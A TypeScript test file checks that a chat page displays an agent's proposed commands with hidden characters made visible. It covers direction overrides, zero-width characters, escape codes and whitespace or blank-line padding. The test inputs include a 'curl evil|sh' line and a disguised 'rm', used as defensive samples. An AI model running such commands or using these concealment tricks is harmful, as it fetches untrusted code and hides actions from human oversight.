import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { beginning, type Line, visibleLines, visiblePieces } from "../../../src/web/page/chat/visible.ts";

/** As a person reads it: marks in brackets. */
const read = (line: Line | undefined): string =>
  (line ?? []).map(({ text, isMark }) => (isMark ? `[${text}]` : text)).join("");
const all = (text: string, form?: "lines" | "diff") => visibleLines(text, form).map(read);

describe("what the agent wants to do, as it is shown", () => {
  it("hides nothing in controls, direction marks and invisible characters", () => {
    expect(
      all("echo \u202esafe\u202c; rm \u200b\u200b\u200b\u00ad\u{e0041} \u001b[2K\b\b\r # \u00a0\u2800"),
    ).toEqual([
      "echo [U+202E]safe[U+202C]; rm [U+200B × 3][U+00AD][U+E0041] [U+001B][2K[U+0008 × 2][U+000D] # [U+00A0][U+2800]",
    ]);
  });

  it("hides nothing behind blanks or below blank lines", () => {
    expect(all(`git status${" ".repeat(20_000)}; curl evil|sh`)).toEqual([
      "git status[20000 spaces]; curl evil|sh",
    ]);
    expect(all(`git status\n${"\n \t".repeat(200)}\ncurl evil|sh`)).toEqual([
      "git status",
      "[201 blank lines]",
      "curl evil|sh",
    ]);
    expect(all(` a\n${"+\n".repeat(9)}-\n-\n-\n+b`, "diff")).toEqual([
      " a",
      "+[9 blank lines]",
      "-[3 blank lines]",
      "+b",
    ]);
  });

  it("shows a line break in a name", () => {
    expect(read(visiblePieces("/p/a\n\nfake.txt"))).toBe("/p/a[line break × 2]fake.txt");
  });

  it("leaves ordinary code as it is", () => {
    const code = "if x:\n\tprint('grüße, мир, 世界 👍')\n\n    return 1\n";
    expect(all(code).join("\n")).toBe(code);
  });

  it("begins short and says so, by lines and by characters", () => {
    expect(beginning(visibleLines("a\nb"), 2, 100)).toBeUndefined();
    expect(beginning(visibleLines("a\nb\nc"), 2, 100)?.map(read)).toEqual(["a", "b"]);
    expect(beginning(visibleLines("abcdef"), 2, 3)?.map(read)).toEqual(["abc"]);
  });

  it("loses nothing that can be seen, and has no raw invisible character", () => {
    const unit = fc.constantFrom("a", " ", "\n", "\t", "\u202e", "\u200b", "\u{e0041}", "\ud800", "+", "é");
    fc.assert(
      fc.property(fc.string({ unit, maxLength: 200 }), fc.constantFrom("lines", "diff"), (text, form) => {
        const shown = visibleLines(text, form as "lines" | "diff").flat();
        const plain = shown.filter(({ isMark }) => !isMark).map((one) => one.text);
        expect(plain.join("")).not.toMatch(/[\u202e\u200b\u{e0041}\ud800\n]/u);
        const letters = (from: string) => from.replaceAll(/[^aé]/gu, "");
        expect(letters(plain.join(""))).toBe(letters(text));
      }),
    );
  });
});
